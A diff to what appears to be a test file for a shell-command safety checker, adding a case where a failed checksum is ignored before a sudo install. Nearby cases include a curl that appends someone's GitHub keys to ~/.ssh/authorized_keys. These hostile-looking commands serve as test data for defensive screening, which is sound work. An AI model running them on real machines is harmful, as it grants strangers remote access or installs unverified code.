@@ -48,11 +48,17 @@ const fetched: Mutation[] = [
     [],
     `curl -fsSo /tmp/m ${URL}\ncurl -fsSo /tmp/m.asc ${URL}.asc\ngpg --verify /tmp/m.asc /tmp/m\nsudo install -m 444 -o root -g root /tmp/m ${MODEL}`,
   ),
-  doubt(
+  run(
     "F60-compared",
     "a sum that a test compares",
-    CODE,
+    [],
     `curl -fsSo /tmp/m ${URL}\n[ "$(sha256sum /tmp/m | cut -d' ' -f1)" = ${SUM} ]\nsudo install -m 444 -o root -g root /tmp/m ${MODEL}`,
+  ),
+  doubt(
+    "F60-ignored",
+    "a sum that a test compares, and nobody minds",
+    CODE,
+    `curl -fsSo /tmp/m ${URL}\n[ "$(sha256sum /tmp/m | cut -d' ' -f1)" = ${SUM} ] || echo differs\nsudo install -m 444 -o root -g root /tmp/m ${MODEL}`,
   ),
   run("F60-other", "a page of the network that is no model", [], "curl -fsSo /tmp/status.html https://status.example.org/"),
   run("F61", "keys of somebody's account", CODE, "curl -fsSL https://github.com/somebody.keys >> ~/.ssh/authorized_keys"),
